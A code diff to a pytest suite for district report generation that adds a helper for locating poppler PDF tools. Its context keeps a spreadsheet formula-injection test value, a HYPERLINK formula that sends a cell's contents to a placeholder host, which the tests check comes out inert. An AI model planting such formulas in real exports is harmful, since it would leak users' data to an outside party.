@@ -10,6 +10,8 @@ out inert; a withdrawn district has no report; expired reports are purged.
 import csv
 import hashlib
 import io
+import os
+import shutil
 import subprocess
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
@@ -43,6 +45,16 @@ YEAR = 2020
 STATES = (("CA", 6), ("OR", 41), ("NV", 32))
 EVIL = '=HYPERLINK("http://x.example/?"&A1,"click")'
 
+
+
+def poppler(tool: str) -> str:
+    """Path of a poppler-utils tool; skipped with the install command outside CI."""
+    found = shutil.which(tool)
+    if found:
+        return found
+    if os.environ.get("CI"):
+        pytest.fail(f"CI needs {tool} from poppler-utils (installed by .ci/run)")
+    pytest.skip(f"{tool} is not installed (apt-get install poppler-utils); CI runs this test")
 
 def _u(*parts: object) -> float:
     return int.from_bytes(hashlib.sha256("|".join(map(str, parts)).encode()).digest()[:8]) / 2**64
@@ -163,7 +175,8 @@ def test_pdf_renders_to_non_blank_pages_carrying_the_warehouse_numbers(world: di
     store, leaid = world["store"], world["leaids"][1]
     pdf = paths(store, leaid)["pdf"]
     out = world["tmp"] / "png"
-    subprocess.run(["pdftoppm", "-png", "-r", "40", "-f", "1", "-l", "2", str(pdf), str(out)],
+    pdftoppm = poppler("pdftoppm")
+    subprocess.run([pdftoppm, "-png", "-r", "40", "-f", "1", "-l", "2", str(pdf), str(out)],
                    check=True)  # fmt: skip
     pages = sorted(world["tmp"].glob("png-*.png"))
     assert len(pages) == 2
@@ -171,7 +184,7 @@ def test_pdf_renders_to_non_blank_pages_carrying_the_warehouse_numbers(world: di
         gray = Image.open(page).convert("L")
         dark = sum(1 for v in gray.getdata() if v < 200)
         assert dark > 0.01 * gray.width * gray.height, f"{page.name} looks blank"
-    text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], check=True,
+    text = subprocess.run([poppler("pdftotext"), "-layout", str(pdf), "-"], check=True,
                           capture_output=True, text=True).stdout  # fmt: skip
     row = warehouse_row(store, leaid)
     grad = peer(store, row["cohort_id"], "graduation")
@@ -235,7 +248,7 @@ def test_injection_strings_come_out_inert(world: dict) -> None:
     negatives = [c for r in comparisons.iter_rows(min_row=2) for c in r
                  if isinstance(c.value, float) and c.value < 0]  # fmt: skip
     assert negatives and all(c.data_type == "n" for c in negatives)
-    text = subprocess.run(["pdftotext", str(found["pdf"]), "-"], check=True,
+    text = subprocess.run([poppler("pdftotext"), str(found["pdf"]), "-"], check=True,
                           capture_output=True, text=True).stdout  # fmt: skip
     assert "HYPERLINK" in text  # shown as text in the PDF, escaped for reportlab's markup
 
